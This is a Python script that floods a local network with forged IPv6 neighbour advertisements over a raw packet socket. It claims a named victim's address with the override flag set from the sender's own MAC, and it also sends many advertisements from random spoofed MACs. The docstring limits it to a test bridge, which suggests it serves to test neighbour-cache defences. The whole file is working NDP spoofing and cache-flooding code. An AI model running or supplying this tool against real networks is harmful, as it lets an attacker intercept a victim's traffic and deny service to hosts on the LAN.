"""Forged IPv6 neighbour advertisements, as an attacker on the LAN sends them.

usage: na_flood.py IFACE PREFIX64 COUNT SECONDS VICTIM_ADDR

For SECONDS, over and over: from this host's own MAC, an unsolicited
advertisement (override set) for each of COUNT addresses high in PREFIX64 and
for VICTIM_ADDR (a real host's address); and COUNT advertisements from
random source MACs for random addresses. All go to ff02::1 with hop limit
255, as RFC 4861 wants them, on the test bridge only.
"""

import ipaddress
import os
import socket
import struct
import sys
import time


def checksum(data: bytes) -> int:
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def na(src_mac: bytes, target: bytes) -> bytes:
    src_ip = b"\xfe\x80" + b"\0" * 6 + bytes([src_mac[0] ^ 2]) + src_mac[1:3] + b"\xff\xfe" + src_mac[3:]
    dst_ip = ipaddress.IPv6Address("ff02::1").packed
    icmp = struct.pack("!BBHI", 136, 0, 0, 0x20000000) + target + bytes([2, 1]) + src_mac
    pseudo = src_ip + dst_ip + struct.pack("!I", len(icmp)) + b"\0\0\0\x3a"
    icmp = icmp[:2] + struct.pack("!H", checksum(pseudo + icmp)) + icmp[4:]
    ip6 = struct.pack("!IHBB", 0x60000000, len(icmp), 58, 255) + src_ip + dst_ip
    eth = b"\x33\x33\x00\x00\x00\x01" + src_mac + b"\x86\xdd"
    return eth + ip6 + icmp


def main() -> None:
    iface, prefix, count, seconds, victim = sys.argv[1:6]
    count, seconds = int(count), float(seconds)
    net = int(ipaddress.IPv6Network(prefix).network_address)
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind((iface, 0))
    own = open(f"/sys/class/net/{iface}/address").read().strip()
    own_mac = bytes.fromhex(own.replace(":", ""))
    # High interface ids: they sort after every real address, so a forger
    # that took the first free claim would take its victim's.
    mine = [na(own_mac, (net + (0xFFFF << 48) + i).to_bytes(16, "big")) for i in range(count)]
    # The victim's address first, before the per-MAC cap is reached.
    mine.insert(0, na(own_mac, ipaddress.IPv6Address(victim).packed))
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        for f in mine:
            s.send(f)
        for _ in range(count):
            mac = bytes([0x02]) + os.urandom(5)
            s.send(na(mac, (net + int.from_bytes(os.urandom(8), "big")).to_bytes(16, "big")))
        time.sleep(0.02)


if __name__ == "__main__":
    main()
